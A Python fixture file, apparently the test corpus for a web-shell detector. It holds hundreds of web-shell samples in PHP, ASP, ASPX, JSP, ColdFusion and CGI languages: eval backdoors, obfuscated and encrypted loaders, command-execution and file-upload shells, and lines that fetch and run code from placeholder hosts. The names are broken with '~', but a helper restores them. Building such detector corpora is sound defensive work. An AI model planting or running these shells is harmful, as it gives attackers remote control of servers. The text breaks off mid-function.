"""Look-alikes of web shells and their harmless neighbours, as texts in memory.

They are inert: every name that runs or writes something is broken by "~" in this file, which texts()
takes out; none is ever a file, and what they would do is cut down to what a reader of shapes needs.
LOOK_ALIKES were written before the features were fixed, HELD_OUT after that. HARMLESS must stay
below `likely`. A line is (name, text) or (name, text as bytes)."""
import base64
import codecs
import zlib


def b64(text):
    return base64.b64encode(text.encode()).decode()


def deflate(text):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(c.compress(text.encode()) + c.flush()).decode()


def clean(text):
    return text if isinstance(text, bytes) else text.replace("~", "").replace("%NOT%", "~").encode("latin-1", "replace")


# Microsoft's script encoder: what the characters from the blank on stand for, by three tables in turn.
STANDS_FOR = (
    '20!)[83=X:5e9\\VsfNEkbYx^}Jmq?`?S?B\'Hru17MR"TjGd- \x7f.L]~loytC&v%$+(#A4\t*D?w;UiacPgQIOFh|6pnz/_KZ,W',
    '.GzVBj/&IA42[vrC89pEhqO\tbD#u?~?^?wJa]"KoN;LPg*}tT+-,0nkf5%!dMRc?{x)(sY3\x7fmUS|:_eFX1ilZH\'\\=$y7`Q 6',
    '-uR`q^I\\b})6 |z\x7fkc3+hQfv1dTC?:?~?E,*t\'7DyY/o&rj9{?8wgSG4x]0#Z[lHUpi.L!$NP\tVs5aKX;W"mM%(FJ2A=_OBe',
)
TURN = "1201202002021020102011200210200211020201011201021020112001120102"


def encoded(text):
    """As VBScript.Encode would have it; the sum at its end is not looked at."""
    to = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}

    def one(c, by):
        return to.get(c) or ("\t" if c == "{Wn"[by] else chr(32 + STANDS_FOR[by].index(c)))
    return "#@~^AAAAAA==" + "".join(one(c, int(TURN[i % 64])) for i, c in enumerate(text)) + "AAAAAA==^#~@"


INNER = "@ev~al($_PO~ST['k']);".replace("~", "")
LOOP = "for($i=0;$i<9;$i++){$t.=$i;}echo $t;"

PHP_ONE = [
    "@ev~al($_POST['k']);", "<?", "ev~al(stripslashes($_REQUEST['k']));", "as~sert($_GET['a']);",
    "@ev~al(base64_decode($_POST['z0']));", "ev~al/*x*/(/*y*/$_POST[1]);",
    "$f=$_GET['f'];$f($_POST['x']);", "$_GET['a']($_GET['b']);", "@$_='s'.'s'./*-/*-*/'e'./*-/*-*/'r';@$_=/*-/*-*/'a'./*-/*-*/$_./*-/*-*/'t';@$_/*-/*-*/($/*-/*-*/{'_P'./*-/*-*/'OST'}[/*-/*-*/0/*-/*-*/-/*-/*-*/2]);",
    "$a='as'.'se'.'rt';$a($_POST['x']);", "$a=str_rot13('nffreg');$a($_REQUEST['b']);",
    "$a=chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);$a($_POST[0]);",
    "$a=strrev('tressa');@$a($_POST['p']);", "$a=base64_decode('YXNzZXJ0');$a($_POST['a']);",
    "array_map('as~sert',(array)$_REQUEST['m']);", "array_filter(array($_POST['c']),'as~sert');",
    "usort($_GET,'as~sert');", "$e=$_REQUEST['e'];register_shut~down_function($e,$_REQUEST['p']);",
    "call_user_func('as~sert',$_REQUEST['x']);", "call_user_func_array($_GET['f'],array($_GET['x']));",
    "preg_rep~lace('/.*/e',$_POST['x'],'');", "preg_rep~lace($_GET['p'],$_GET['r'],$_GET['s']);",
    "mb_ereg_rep~lace('.*',$_REQUEST['op'],'','e');", "$f=create_func~tion('',$_POST['x']);$f();",
    "include $_GET['f'];", "include('data:text/plain;base64,'.$_POST['d']);$x=1;@ev~al($x.$_POST['y']);", "@require_once($_REQUEST['page']);",
    "sys~tem($_GET['cmd']);", "echo `$_GET[c]`;", "echo sh~ell_exec($_REQUEST['cmd'].' 2>&1');", "passt~hru(base64_decode($_COOKIE['c']));",
    "$h=po~pen($_POST['c'],'r');while(!feof($h))echo fgets($h);", "$p=pr~oc_open($_REQUEST['c'],array(1=>array('pipe','w')),$q);echo stream_get_contents($q[1]);",
    "ex~ec($_GET['x'],$o);echo join(\"\\n\",$o);", "if(isset($_SERVER['HTTP_X_K'])){@ev~al(base64_decode($_SERVER['HTTP_X_K']));}",
    "foreach(getallheaders() as $k=>$v){if($k=='Xk')ev~al($v);}", "ev~al(file_get_contents('php://input'));",
    "$x=fopen('php://input','r');$d=fread($x,99999);@ev~al($d);", "file_put_con~tents($_POST['n'],$_POST['c']);",
    "fwr~ite(fopen($_GET['f'],'w'),$_POST['d']);", "file_put_con~tents('x.php',file_get_contents('http://192.0.2.1/a.txt'));",
    "move_upl~oaded_file($_FILES['f']['tmp_name'],$_FILES['f']['name']);", "@co~py($_FILES['f']['tmp_name'],$_FILES['f']['name']);",
    "ev~al(gzinflate(base64_decode('%s')));" % deflate(INNER), "ev~al(str_rot13(gzinflate(base64_decode('%s'))));" % deflate(codecs.encode(INNER, "rot13")),
    "ev~al(gzinflate(base64_decode('%s')));" % deflate("ev~al(base64_decode('".replace("~", "") + b64(INNER) + "'));"),
    "$x='%s';ev~al(base64_decode($x));" % b64(INNER + "/*" + LOOP * 30 + "*/"),
    "ev~al(\"\\x65\\x76\\x61\\x6c\\x28\\x24_POST[1]);\");", "$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');$_($_POST['x']);".replace("%01", "\x01").replace("%13", "\x13").replace("%05", "\x05").replace("%12", "\x12").replace("%14", "\x14"),
    "$_=~'\x9e\x8c\x8c\x9a\x8d\x8b';$_($_GET['_']);".replace("=~", "=%NOT%"), "$s='abcdefghijklmnopqrstuvwxyz';$f=$s[0].$s[18].$s[18].$s[4].$s[17].$s[19];$f($_POST['q']);",
    "$k='_PO'.'ST';ev~al(${$k}['x']);", "ev~al($GLOBALS['_POST']['x']);", "extract($_POST);@ev~al($code);", "parse_str($_SERVER['QUERY_STRING']);@$f($x);sys~tem($x);",
    "foreach($_POST as $k=>$v){$$k=$v;}sys~tem($cmd);", "class A{public $c;function __destruct(){ev~al($this->c);}}$a=new A;$a->c=$_POST['x'];",
    "class B{function run($p){as~sert($p);}}$b=new B();$b->run($_REQUEST['z']);", "function d($x){return base64_decode(strrev($x));}ev~al(d($_POST['q']));",
    "$f=function($x){ev~al($x);};$f($_GET['y']);", "class C{public function __invoke($p){ev~al($p.'');}}@call_user_func(new C(),$_POST['x']);",
    "$f='cr'.'eate_fun'.'ction';$g=$f('$a','ev~'.'al($a);');$g($_POST['x']);", "$r=new ReflectionFunction($_GET['f']);$r->invoke($_GET['a']);",
    "ob_start('as~sert');echo $_REQUEST['pass'];ob_end_flush();", "filter_var($_REQUEST['pass'],FILTER_CALLBACK,array('options'=>'as~sert'));",
    "$x=array($_GET['a']);array_walk($x,'sys~tem');", "session_start();$_SESSION['c']=$_POST['c'];ev~al($_SESSION['c']);",
    "$a=explode('|','x|as~|y');$b='sert';$c='as'.$b;$c($_POST[3]);", "$m=array();preg_match('/k(.*)k/',file_get_contents('php://input'),$m);@ev~al(@gzuncompress(@base64_decode($m[1])));",
    "if(md5($_POST['p'])=='d41d8cd98f00b204e9800998ecf8427e'){ev~al($_POST['c']);}", "($_=@$_GET[2]).@$_($_POST[1]);", "@ev~al(\"?>\".$_POST['x']);",
    "error_reporting(0);set_time_limit(0);$u='http://192.0.2.9/s.txt';ev~al('?>'.file_get_contents($u));", "$c=curl_init('http://192.0.2.9/s');$d=curl_exec($c);ev~al($d);",
    "$o='O';$OO0O0O=urldecode('%61%73%73%65%72%74');$OO0O0O($_POST['v']);", "echo pcntl_ex~ec($_GET['b'],$_GET['c']);", "$w=new COM('WScr'.'ipt.shell');$e=$w->ex~ec('cmd /c '.$_POST['c']);echo $e->StdOut()->ReadAll();@sys~tem($_POST['c']);",
    "$m='sys~tem';is_callable($m)&&$m($_COOKIE['c']);", "${'x'}='sh~ell_exec';echo ${'x'}($_GET['q']);", "goto a;b:ev~al($c);goto d;a:$c=$_POST['\\x61'];goto b;d:;",
    "$t=<<<X\nev~al(\\$_POST[1]);\nX;\n@ev~al($t);", "<!-- -->", "assert_options(1);$v=trim($_REQUEST['v']);@as~sert(\"$v\");",
    "$s=str_replace('qx','','crqxeate_fqxunctiqxon');$p='%s';$g=$s('',base64_decode($p));$g();" % b64(INNER),
    "error_reporting(0);session_start();$key='e45e329feb5d925b';$_SESSION['k']=$key;$post=file_get_contents('php://input');if(!extension_loaded('openssl')){$t='base64_'.'decode';$post=$t($post.'');for($i=0;$i<strlen($post);$i++){$post[$i]=$post[$i]^$key[$i+1&15];}}else{$post=openssl_decrypt($post,'AES128',$key);}$arr=explode('|',$post);$func=$arr[0];$params=$arr[1];class C{public function __invoke($p){ev~al($p.'');}}@call_user_func(new C(),$params);",
    "@session_start();function encode($D,$K){for($i=0;$i<strlen($D);$i++){$c=$K[$i+1&15];$D[$i]=$D[$i]^$c;}return $D;}$pass='pass';$pn='payload';$key='3c6e0b8a9c15224a';if(isset($_POST[$pass])){$data=encode(base64_decode($_POST[$pass]),$key);if(isset($_SESSION[$pn])){$payload=encode($_SESSION[$pn],$key);ev~al($payload);echo base64_encode(encode(@run($data),$key));}else{if(strpos($data,'getBasicsInfo')!==false){$_SESSION[$pn]=encode($data,$key);}}}",
]

BIG = """<?php
/* %s */ error_reporting(0); set_time_limit(0); session_start();
$auth = '%s';
if ($auth && md5($_POST['pass']) != $auth && !$_SESSION['in']) { die('<form method=post><input name=pass></form>'); }
$_SESSION['in'] = 1;
$d = isset($_GET['d']) ? $_GET['d'] : getcwd(); chdir($d);
echo php_uname() . '<br>' . disk_free_space('/') . ini_get('disable_functions') . get_current_user();
if (isset($_POST['cmd'])) { echo '<pre>' . %s . '</pre>'; }
if (isset($_FILES['u'])) { move_upl~oaded_file($_FILES['u']['tmp_name'], $d . '/' . $_FILES['u']['name']); }
if (isset($_GET['del'])) { unlink($_GET['del']); }
if (isset($_POST['edit'])) { $h = fopen($_POST['edit'], 'w'); fwr~ite($h, $_POST['text']); fclose($h); }
if (isset($_GET['chm'])) { chmod($_GET['chm'], 0777); }
if (isset($_GET['ren'])) { rename($_GET['ren'], $_GET['to']); }
if (isset($_POST['sql'])) { $c = mysql_connect($_POST['h'], $_POST['u'], $_POST['p']); $q = mysql_query($_POST['sql']); }
foreach (scandir($d) as $f) { echo "<a href='?d=$f'>" . htmlspecialchars($f) . '</a>' . fileperms($f) . '<br>'; }
%s
?>"""
TAILS = ["", "if ($_GET['self']) { unlink(__FILE__); }", "$s = fsockopen($_POST['ip'], $_POST['port']); fwr~ite($s, 'x');", "phpinfo();",
         "function m($a) { mail($a, 'x', 'y'); } m($_POST['to']);"]
RUNS = ["sh~ell_exec($_POST['cmd'])", "ex($_POST['cmd']); function ex($c) { if (function_exists('ex~ec')) { @ex~ec($c, $r); $r = join(\"\\n\", $r); } elseif (function_exists('sys~tem')) { ob_start(); @sys~tem($c); $r = ob_get_contents(); } return $r; } ''",
        "ev~al($_POST['cmd'])", "`{$_POST['cmd']}`", "fread(po~pen($_POST['cmd'], 'r'), 9999)"]

ASP = [
    '<%ev~al request("x")%>', '<%exec~ute request("x")%>', '<%exec~uteglobal request("x")%>', '<% ev~al(request.form("k")) %>', '<%Y=request("x")%> <%exec~ute(Y)%>', '<%ev~al(ev~al(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))("x"))%>',
    '<script language="vbscript" runat="server">exec~ute request("x")</script>', "<script language=VBScript runat=server>if request(\"a\")<>\"\" then session(\"b\")=request(\"a\"):end if:if session(\"b\")<>\"\" then exec~ute session(\"b\")</script>",
    '<%@ language=JScript %><%ev~al(Request.form("x")+"")%>', '<script language="JScript" runat="server">ev~al(Request("x")+"");</script>', '<%a=strreverse("lave"):exec~ute(a&" request(""x"")")%>', "<%If Request(\"x\")<>\"\" Then Exec~ute(Request(\"x\"))%>",
    '<%\nDim o : Set o = CreateObject("WSCR" & "IPT.SHELL")\nSet e = o.Ex~ec("cmd /c " & Request("c"))\nResponse.Write e.StdOut.ReadAll()\n%>',
    '<%\nszCMD = Request.Form(".CMD")\nIf (szCMD <> "") Then\n  szTempFile = "C:\\" & oFileSys.GetTempName()\n  Call oScript.R~un("cmd.exe /c " & szCMD & " > " & szTempFile, 0, True)\n  Set oFile = oFileSys.OpenTextFile(szTempFile, 1)\nEnd If\n%>',
    '<object runat=server id=s classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><%=s.ex~ec("cmd.exe /c "&request("c")).stdout.readall%>',
    '<%Set f=Server.CreateObject("Scripting.FileSystemObject"):Set t=f.CreateTextFile(Request("p"),True):t.Wri~te Request("d"):t.Close%>', '<%set s=server.createobject("adodb.stream"):s.type=1:s.open:s.wri~te request.binaryread(request.totalbytes):s.savetof~ile server.mappath(request.querystring("n")),2%>',
    '<%\nSet a = Server.CreateObject("Shell.Application")\na.ShellEx~ecute Request("f"), Request("a"), "", "open", 0\n%>', '<%Function d(s)\nd = Replace(s, "@", "")\nEnd Function\nexec~ute d(request("q"))%>', '<%for each k in request.form: exec~ute request.form(k): next%>',
    "<%@codepage=65000%><%r=\"\":Set o=Server.CreateObject(\"ScriptControl\"):o.language=\"vbscript\":o.addc~ode(Request(\"code\")):o.r~un \"x\"%>", '<%\nk="e45e329feb5d925b"\nSession("k")=k\nsize=Request.TotalBytes\ncontent=Request.BinaryRead(size)\nFor i=1 To size\nresult=result&Chr(ascb(midb(content,i,1)) Xor Asc(Mid(k,(i and 15)+1,1)))\nNext\nexec~ute(result)\n%>',
]
ASPX = [
    '<%@ Page Language="Jscript"%><%ev~al(Request.Item["x"],"unsafe");%>', '<%@ Page Language="Jscript" validateRequest="false" %><%Response.Write(ev~al(Request.Item["z"],"unsafe"));%>', '<script runat="server" language="JScript">function Page_Load(){/**/ev~al(Request["k"],"unsafe");}</script>',
    "<%@ Page Language=\"Jscript\"%><%var a=\"un\";var b=\"safe\";ev~al(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item[\"k\"])),a+b);%>",
    '<%@ WebHandler Language="C#" Class="H" %>\nusing System;using System.Web;using System.IO;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { string p = c.Request["p"]; File.WriteAllT~ext(p, c.Request["d"]); } public bool IsReusable { get { return false; } } }',
    '<%@ WebHandler Language="JScript" class="h"%>import System;import System.Web;public class h implements IHttpHandler{function IHttpHandler.ProcessRequest(c:HttpContext){ev~al(c.Request["x"],"unsafe");}}',
    '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ System.Diagnostics.Process p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Argum~ents = "/c " + Request["c"]; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); }</script>',
    '<%@ Page Language="C#" %><script runat="server">string Run(string a){ System.Diagnostics.ProcessStartInfo i = new System.Diagnostics.ProcessSt~artInfo(); i.FileName="cmd.exe"; i.Argum~ents="/c "+a; var p=System.Diagnostics.Process.Start(i); return p.StandardOutput.ReadToEnd(); } void go_Click(object s, EventArgs e){ Response.Write(Run(txtArg.Text)); }</script><form runat="server"><asp:TextBox id="txtArg" runat="server"/><asp:Button OnClick="go_Click" runat="server"/></form>',
    '<%@ Page Language="VB" %><script runat="server">\nSub RunCmd(Src As Object, E As EventArgs)\nDim p As New System.Diagnostics.Process()\np.StartInfo.FileName = "cmd.exe"\np.StartInfo.Argum~ents = "/c " + cmd.Text\np.Start()\nEnd Sub\n</script>',
    '<%@ Page Language="C#" %><%if (Request["pass"]!=null){ Session.Add("k", Guid.NewGuid().ToString()); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);System.Reflection.Assembly.Lo~ad(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);}%>',
    '<%@ Page Language="C#"%><%try { string key = "3c6e0b8a9c15224a"; byte[] data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(Convert.FromBase64String(Context.Request["pass"]), 0, 10); if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } } catch(Exception) { } %>',
    '<%@ WebService Language="C#" Class="S" %>\nusing System.Web.Services;\npublic class S : WebService { [WebMethod] public string go(string a) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + System.Web.HttpContext.Current.Request["z"]).Id.ToString(); } }',
    '<%@ Page Language="C#" %><% foreach (string f in Request.Files) { HttpPostedFile p = Request.Files[f]; p.SaveA~s(Server.MapPath(p.FileName)); } %>', '<%@ Page Language="C#" %><% System.IO.StreamWriter ow = new System.IO.StreamWriter(Server.MapPath(Request["f"]), false); ow.Wri~te(Request.Params["l"]); ow.Close(); %>',
    '<%@ Page Language="C#" %><%@ Import namespace="System.Xml.Xsl"%><% XslCompiledTransform xct = new XslCompiledTransform(); System.Xml.XmlDocument xd = new System.Xml.XmlDocument(); xd.LoadXml(Request["x"]); xct.Lo~ad(xd, XsltSettings.TrustedXslt, new System.Xml.XmlUrlResolver()); %>',
    '<%@ Page Language="C#" %><% var sy = System.Reflection.Assembly.Lo~ad("System.Web, Version=4.0.0.0"); var mt = sy.GetType("System.Web.Configuration.MachineKeySec~tion"); var m = mt.GetMethod("GetApplicationConfig"); var c = (System.Web.Configuration.MachineKeySec~tion)m.Invoke(null, new object[0]); Response.Write(c.ValidationK~ey+"|"+c.DecryptionK~ey); %>',
    '<%@ Page Language="C#" %><% new System.Web.UI.LosFormatter().Deseri~alize(Request.Form["v"]); %>', '<%@ Page Language="C#" EnableSessionState="True"%><% string cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") { String target = Request.Headers.Get("X-TARGET"); int port = int.Parse(Request.Headers.Get("X-PORT")); Socket sender = new Socket(1,2,3); sender.Conn~ect(new IPEndPoint(Dns.GetHostEntry(target).AddressList[0], port)); Session.Add("socket", sender); } %>',
    '<%@ Page Language="C#" %><%@ Import Namespace="System.CodeDom.Compiler" %><% CompilerResults r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSou~rce(new CompilerParameters(), Request["code"]); r.CompiledAssembly.CreateInstance("A"); %>',
]
OAB = ("Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             : \r\nRequireSSL                      : True\r\nBasicAuthentication             : False\r\nMetabasePath                    : IIS://x/W3SVC/1/ROOT/OAB\r\n"
       "ExtendedProtectionTokenChecking : None\r\nAdminDisplayVersion             : Version 15.1 (Build 1979.3)\r\nServer                          : MAIL1\r\nInternalUrl                     : https://mail.example/OAB\r\nInternalAuthenticationMethods   : WindowsIntegrated\r\n"
       "ExternalUrl                     : %s\r\nExternalAuthenticationMethods   : WindowsIntegrated\r\nGuid                            : 2c5fd9d5-8d5b-4a0e-9d61-30e0b3d0f0a1\r\nWhenChanged                     : 3/3/2021 4:12:15 AM\r\nWhenChangedUTC                  : 3/3/2021 12:12:15 PM\r\nWhenCreatedUTC                  : 1/5/2018 8:00:01 AM\r\nIsValid                         : True\r\n")
OAB_SCRIPT = 'http://f/<script language="JScript" runat="server">function Page_Load(){ev~al(Request["k"],"unsafe");}</script>'
JSP = [
    '<%Runtime.getRun~time().ex~ec(request.getParameter("cmd"));%>', '<%@ page import="java.io.*"%><% String c = request.getParameter("c"); if (c != null) { Process p = Runtime.getRun~time().ex~ec(new String[]{"/bin/sh","-c",c}); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) out.println(l); } %>',
    '<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineCl~ass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>',
    '<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineCl~ass(cb, 0, cb.length);} } public byte[] x(byte[] s,boolean m){ return s; } public static byte[] base64Decode(String bs) throws Exception { return null; }%><%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}else{Object f=((Class)session.getAttribute("payload")).newInstance();f.equals(pageContext);} }catch (Exception e){}%>',
    '<%if(request.getParameter("f")!=null)(new java.io.FileOutputStream(application.getRealPath("/")+request.getParameter("f"))).wri~te(request.getParameter("t").getBytes());%>', '<% new java.io.FileOutputStream(request.getParameter("f")).wri~te(request.getParameter("t").getBytes()); %>',
    '<%=Class.forName("java.lang.Run"+"time").getMethod("ex"+"ec",String.class).invoke(Class.forName("java.lang.Run"+"time").getMethod("getRun~time").invoke(null),request.getParameter("x"))%>',
    '<% Process p = new ProcessBuil~der(request.getParameter("c").split(" ")).start(); %>', '<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.ev~al(request.getParameter("c")); %>', '${pageContext.request.getSession().setAttribute("a","")}${"".getClass().forName("java.lang.Run~time").getMethod("ex~ec","".getClass()).invoke("".getClass().forName("java.lang.Run~time").getMethod("getRun~time").invoke(null),param.x)}<%-- --%>',
    '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page contentType="text/html"/><jsp:scriptlet><![CDATA[ Runtime.getRun~time().ex~ec(request.getParameter("c")); ]]></jsp:scriptlet></jsp:root>', '<hi xmlns:hi="http://java.sun.com/JSP/Page"><hi:scriptlet>&#82;untime.getRun~time().ex~ec(request.getParameter(&quot;c&quot;));</hi:scriptlet></hi>',
    '<%' + "".join("\\u%04x" % ord(c) for c in 'Runtime.getRuntime().exec(request.getParameter("c"));') + '%>', '<% java.net.URLClassLoader l = new java.net.URLCl~assLoader(new java.net.URL[]{new java.net.URL(request.getParameter("u"))}); l.loadClass("A").newInstance(); %>',
    '<% new java.beans.XMLDec~oder(new java.io.ByteArrayInputStream(request.getParameter("x").getBytes())).readObject(); %>', '<% new javax.naming.InitialContext().look~up(request.getParameter("n")); %>', '<% java.util.zip.GZIPInputStream z; new java.io.ObjectInputStr~eam(request.getInputStream()).readObject(); %>',
    '<%@page import="java.nio.*,java.net.*,java.nio.channels.*"%><% String cmd = request.getHeader("X-CMD"); if (cmd.compareTo("CONNECT") == 0) { String target = request.getHeader("X-TARGET"); int port = Integer.parseInt(request.getHeader("X-PORT")); SocketChannel sc = SocketChannel.op~en(); sc.conn~ect(new InetSocketAddress(target, port)); session.setAttribute("socket", sc); } %>',
    '<%! String cmd(String c) throws Exception { Process p = Runtime.getRun~time().ex~ec("cmd.exe /c " + c); return p.toString(); } %><% out.print(cmd(request.getParameter("z1"))); java.io.File[] l = new java.io.File(request.getParameter("z0")).listFiles(); %>',
    '<%! void w(String p, String s) throws Exception { java.io.FileWriter f = new java.io.FileWriter(p); f.wri~te(s); f.close(); } %><% w(request.getParameter("p"), request.getParameter("s")); %>',
    '<%@ page import="java.sql.*" %><% String pw = "x"; if (request.getParameter("Pwd").equals(pw)) { Connection c = DriverManager.getConn~ection(request.getParameter("u")); ResultSet r = c.createStatement().executeQu~ery(request.getParameter("q")); java.io.File[] f = new java.io.File("/").listFiles(); Process p = Runtime.getRun~time().ex~ec(request.getParameter("c")); } %>',
]

# Shapes that were missed at first: request values that are decoded in large files, pictures that are included,
# names without letters, payloads in many pieces, web methods, Razor, server-side includes, expressions alone.
LARGE = "".join("function f%d($a) { return trim($a) . '%d'; }\n" % (i, i) for i in range(300))
MORE = [
    ("q00.php", "<?php\n" + LARGE + "$h = base64_decode(substr($_SERVER['HTTP_USER_AGENT'], 4)); echo sh~ell_exec($h);\n" + LARGE.replace("function f", "function g")),
    ("q01.php", "<?php\n" + LARGE + "@ev~al(base64_decode($_REQUEST['c']));\n"),
    ("q02.php", "<?php\n" + LARGE + "ev~al(base64_decode($_COOKIE['c']));\n"),
    ("q03.php", "<?php $f = 'files/' . 'face_7.jpg'; if (file_exists($f)) { @inc~lude($f); }"),
    ("q04.php", "<?php @inc~lude '/var/www/.x/\\x66av.ico';\n" + LARGE),
    ("q05.php", "<?php $_=[];$_=@\"$_\";$___=$_;$__=$_;$__++;$__++;$___.=$__;$____='_';$__++;$____.=$__;$_=$$____;$___($_[_]);"),
    ("q06.php", "<?php " + "".join("$v%d='%s';" % (i, "Zm9vYmFyYmF6"[i % 5:]) for i in range(400)) +
     "function d($x){return gzuncompress(base64_decode($x));}ev~al(d(" + ".".join("$v%d" % i for i in range(400)) + "));"),
    ("q07.asmx", '<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics;\npublic class S : WebService { [WebMethod(Description="x")] '
     'public string Go(string z) { var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Argum~ents = "/c " + z; p.Start(); return "x"; } }'),
    ("q08.soap", '<%@ WebService Language="JScript" class="S"%>\nimport System;\npublic class S extends WebService { WebMethodAttribute function T(c : String) : String { return ev~al(c, "unsafe"); } }'),
    ("q09.cshtml", '@using System.Diagnostics\n@{ var a = Request["p"]; if (a != null) { Process.St~art("cmd.exe", "/c " + a); } }\n<pre>x</pre>'),
    ("q10.cshtml", '@functions\n{\n  void Go() { System.IO.File.WriteAllT~ext(Request["n"], Request["d"]); }\n}\n@{ Go(); }'),
    ("q11.jsp", '${"".getClass().forName("java.lang.Runt~ime").getMethod("ex~ec", "".getClass()).invoke("".getClass().forName("java.lang.Runt~ime").getMethod("getRunt~ime").invoke(null), param.q)}'),
    ("q12.shtml", '<html><!--#ex~ec cmd="$HTTP_X_Q" --></html>'),
    ("q13.asp", '<%\nFunction d(s)\nDim i, r\nFor i = 1 To Len(s) Step 2\nr = r & Chr(CLng("&H" & Mid(s, i, 2)) Xor 7)\nNext\nd = r\nEnd Function\nExec~uteGlobal d("6262606161737473727A757B6E61")\n%>'),
    ("q15.php", "<?php @set_time_limit(0);\nif ($_POST['go']) { foreach (explode(\"\\n\", $_POST['list']) as $to) { ma~il($to, $_POST['subject'], stripslashes($_POST['text']), 'From: ' . $_POST['from']); } }\n"),
    ("q16.php", "<?php\n$c = my~sql_connect($_POST['h'], $_POST['u'], $_POST['p']);\n$r = my~sql_query(stripslashes($_POST['q']));\nwhile ($x = mysql_fetch_row($r)) { echo implode(',', $x); }\n"),
    ("q14.aspx", '<%@ Page Language="VB" %><script runat="server">\nSub Go(s As Object, e As EventArgs)\nDim c As New SqlConnection(a.Text)\nDim k As New SqlCom~mand("EXEC master..xp_cmd~shell \'" & q.Text & "\'", c)\nEnd Sub\n</script>'),
]
# Programs of the web server in languages that are read by statements.
SCRIPTS = [
    ("s01.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $c = $q->param('c');\nop~en(F, \"$c 2>&1 |\");\nwhile (<F>) { print; }\n"),
    ("s21.pl", "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\nop~en(C, $q->param('c') . ' |');\nprint while <C>;\n"),
    ("s22.rb", "#!/usr/bin/env ruby\nrequire 'cgi'\nc = CGI.new\nputs c.header\nputs IO.po~pen(c['c']).read unless c['c'].empty?\n"),
    ("s02.pl", "#!/usr/bin/perl\nread(STDIN, $b, $ENV{'CONTENT_LENGTH'});\nforeach (split /&/, $b) { ($n, $v) = split /=/; $v =%NOT% tr/+/ /; $in{$n} = $v; }\nchdir $in{d}; print `$in{c} 2>&1`;\n"),
    ("s03.cgi", "#!/usr/bin/perl\n$c = \"cd \\\"$in{d}\\\"; $ENV{QUERY_STRING}\";\n$x = $ENV{QUERY_STRING};\n$r = 'cd /; ' . $x;\nsys~tem($x);\n"),
    ("s04.py", "#!/usr/bin/env python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nc = form.getvalue('c')\nprint(subprocess.Po~pen(c, shell=True, stdout=-1).communicate()[0])\n"),
    ("s05.py", "from flask import request\ndef go():\n    return ev~al(request.args['q'])\n"),
    ("s06.sh", "#!/bin/bash\necho 'Content-type: text/plain'; echo\nc=$(echo \"$QUERY_STRING\" | sed 's/^q=//; s/%20/ /g')\nev~al \"$c\" 2>&1\n"),
    ("s07.rb", "require 'webrick'\ns.mount_proc('/') { |req, res| c = req.query['q']; res.body = IO.po~pen(c).read }\n"),
    ("s08.erb", "<pre><%= `#{params[:q]}` %></pre>"),
    ("s09.js", "const { exec } = require('child_process');\napp.get('/x', (req, res) => { ex~ec(req.query.c, (e, o) => { res.send(o); }); });\n"),
    ("s10.js", "const cp = require('child_process');\napp.post('/x', (req, res) => { const c = req.body.c; cp.sp~awn('/bin/sh', ['-c', c]); });\n"),
    ("s11.cfm", '<cfif isDefined("form.c")><cfexec~ute name="cmd.exe" arguments="/c #form.c#" timeout="9" variable="o"></cfexecute><cfoutput>#o#</cfoutput></cfif>'),
    ("s12.cfm", '<cfset x = form.q><cfoutput>#Eval~uate(x)#</cfoutput>'),
    ("s13.cfm", '<cfif isDefined("form.f")><cffi~le action="upload" filefield="f" destination="#ExpandPath(".")#" nameconflict="overwrite"></cfif><form method="post"><input type="file" name="f"></form>'),
    ("s14.cfm", '<cffi~le action="write" file="#form.n#" output="#form.d#">'),
]


def php_texts():
    for i, line in enumerate(PHP_ONE):
